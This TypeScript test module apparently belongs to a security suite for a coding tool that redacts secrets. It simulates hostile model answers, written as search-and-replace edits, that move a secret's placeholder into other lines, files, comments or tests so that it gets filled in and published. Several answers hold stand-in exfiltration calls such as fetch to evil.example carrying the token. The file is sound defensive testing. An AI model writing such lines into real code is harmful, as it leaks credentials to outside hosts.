/**
 * A secret is sent as a placeholder. A hostile answer moves the placeholder to where the secret would be published,
 * and hopes that it is filled in there.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Attack, firstOf, staged, type Verdict } from './attack.ts';
import { call, serving } from './client.ts';
import { seed } from './seeds.ts';
import type { Stage, World } from './stage.ts';

const block = (path: string, search: string, replace: string) =>
  `${path}\n<<<<<<< SEARCH\n${search}=======\n${replace}>>>>>>> REPLACE\n`;

interface Trick {
  name: string;
  /** The answer, given the placeholder as it was sent. */
  answer: (placeholder: string) => string;
  args?: string[];
}

/** Of `config.ts`, whose second line holds the secret. */
const tricks: Trick[] = [
  {
    name: 'added-line',
    answer: (p) =>
      block('config.ts', 'const b = 2;\n', `const b = 2;\nfetch("https://evil.example/?${p}");\n`),
  },
  { name: 'other-line', answer: (p) => block('config.ts', 'const b = 2;\n', `const b = "${p}";\n`) },
  {
    name: 'same-line-changed',
    answer: (p) => block('config.ts', `const token = "${p}";\n`, `const token = send("${p}");\n`),
  },
  {
    name: 'url-on-same-line',
    answer: (p) =>
      block('config.ts', `const token = "${p}";\n`, `const url = "https://evil.example/${p}";\n`),
  },
  {
    name: 'moved-line',
    answer: (p) =>
      block('config.ts', `const token = "${p}";\nconst b = 2;\n`, `const b = 2;\nconst token = "${p}";\n`),
  },
  {
    name: 'doubled-line',
    answer: (p) =>
      block('config.ts', `const token = "${p}";\n`, `const token = "${p}";\nconst token = "${p}";\n`),
  },
  { name: 'other-file', answer: (p) => block('public.ts', 'const open = 1;\n', `const open = "${p}";\n`) },
  {
    name: 'other-file-same-text',
    answer: (p) => block('public.ts', 'const open = 1;\n', `const token = "${p}";\n`),
  },
  { name: 'new-file', answer: (p) => `leak.ts\n\`\`\`\nconst token = "${p}";\n\`\`\`\n` },
  { name: 'new-file-block', answer: (p) => block('leak.txt', '', `${p}\n`) },
  {
    name: 'whole-file-moved',
    answer: (p) => `public.ts\n\`\`\`\nconst token = "${p}";\nconst open = 1;\n\`\`\`\n`,
  },
  { name: 'comment', answer: (p) => block('config.ts', 'const b = 2;\n', `// was ${p}\nconst b = 2;\n`) },
  {
    name: 'renumbered',
    answer: (p) =>
      block(
        'config.ts',
        'const b = 2;\n',
        `const b = "${p.replace(/\d+/, (n) => String(Number(n) + 1))}";\n`,
      ),
  },
  {
    name: 'split',
    answer: (p) => block('config.ts', 'const b = 2;\n', `const b = "${p.slice(0, -3)}\n${p.slice(-3)}";\n`),
  },
  {
    name: 'swapped',
    answer: (p) =>
      block('config.ts', 'const b = 2;\n', `const b = "${p}";\n`) +
      block('config.ts', `const token = "${p}";\n`, 'const token = 0;\n'),
  },
  {
    name: 'deleted-and-added',
    answer: (p) =>
      block('config.ts', `const a = 1;\nconst token = "${p}";\n`, `const x = "${p}";\nconst a = 1;\n`),
  },
  { name: 'in-code', answer: (p) => `console.log("${p}");\n`, args: ['run', 'code_generate', 'x'] },
  { name: 'in-text', answer: (p) => `# Config\n\nThe token is ${p}.\n`, args: ['docs', 'x'] },
  {
    name: 'in-tests',
    answer: (p) => `test("x", () => fetch("https://evil.example/${p}"));\n`,
    args: ['tests', 'x'],
  },
  {
    name: 'honest-edit',
    answer: (p) =>
      block('config.ts', `const a = 1;\nconst token = "${p}";\n`, `const a = 3;\nconst token = "${p}";\n`),
  },
];

export function placeholders(stage: Stage): Attack[] {
  return tricks.flatMap((trick) =>
    (['kept', 'apply', 'tool'] as const).map((surface) => ({
      id: `reading/placeholder/${trick.name}/${surface}`,
      tries: 'an answer moves a placeholder to where the secret would be published',
      run: () => attempt(stage, trick, surface),
    })),
  );
}

async function attempt(stage: Stage, trick: Trick, surface: 'kept' | 'apply' | 'tool'): Promise<Verdict> {
  const { secret } = seed('github-pat');
  const original = `const a = 1;\nconst token = "${secret}";\nconst b = 2;\n`;
  const world = stage.world({ files: { 'config.ts': original, 'public.ts': 'const open = 1;\n' } });
  let placeholder: string | undefined;
  world.answer(({ asked, say }) => {
    placeholder ??= /‹redacted:[^›]+›/.exec(JSON.stringify(asked.body))?.[0];
    say(placeholder === undefined ? 'no placeholder' : trick.answer(placeholder));
  });
  let output: string;
  if (surface === 'tool') {
    const [name, task] =
      trick.args?.[0] === 'docs' ? ['delegate.docs'] : ['delegate.run', trick.args?.[1] ?? 'refactor'];
    output = await serving(world, async (peer) => {
      const input = {
        ...(task === undefined ? {} : { task: trick.args?.[0] === 'tests' ? 'tests' : task }),
        input: 'x',
      };
      const result = await call(peer, name!, { ...input, files: ['config.ts', 'public.ts'] });
      const id = result.result?.structuredContent?.meta?.patch?.id;
      const applied = id === undefined ? undefined : await call(peer, 'patch.apply', { patch_id: id });
      return JSON.stringify([result, applied]);
    });
  } else {
    const writes = surface === 'apply' && trick.args === undefined ? ['--apply'] : [];
    const args = [
      ...(trick.args ?? ['diff', 'x']),
      '-f',
      'config.ts',
      '-f',
      'public.ts',
      ...writes,
      '--json',
    ];
    const ran = await world.run(args);
    output = ran.stdout + ran.stderr;
    const id = /"id": "([\w.-]+)"/.exec(ran.stdout)?.[1];
    const applied = id === undefined ? undefined : await world.run(['patch', 'apply', id, '--json']);
    output += `${applied?.stdout}${applied?.stderr}`;
    const verdict = world.judge(ran, ...(applied ? [applied] : []));
    if (verdict) return verdict;
  }
  staged(world.asked.length > 0, 'nothing was asked');
  if (placeholder === undefined) return 'the secret was sent: there was no placeholder';
  return firstOf(
    output.includes(secret) ? 'the secret was shown to the host' : undefined,
    world.sent.includes(secret) ? 'the secret was sent' : undefined,
    published(world, secret, original),
  );
}

/** The secret may stand only in the line it came from. */
function published(world: World, secret: string, original: string): Verdict {
  const config = readFileSync(join(world.work, 'config.ts'), 'utf8').split('\n');
  const line = original.split('\n')[1];
  for (const text of config) {
    if (!text.includes(secret)) continue;
    if (text !== line) return `the secret was written into another line: ${text.replace(secret, '…')}`;
    if (config.filter((each) => each.includes(secret)).length > 1) return 'the secret was written twice';
  }
  const where = textsOf(world).find(([path, text]) => path !== 'work/config.ts' && text.includes(secret));
  return where && `the secret was written into ${where[0]}`;
}

function textsOf(world: World): [string, string][] {
  return [...world.snapshot()].flatMap(([path, what]): [string, string][] =>
    what.includes('folder') || what.includes('->') || path.includes('.git/')
      ? []
      : [[path, readFileSync(join(world.top, path), 'utf8')]],
  );
}
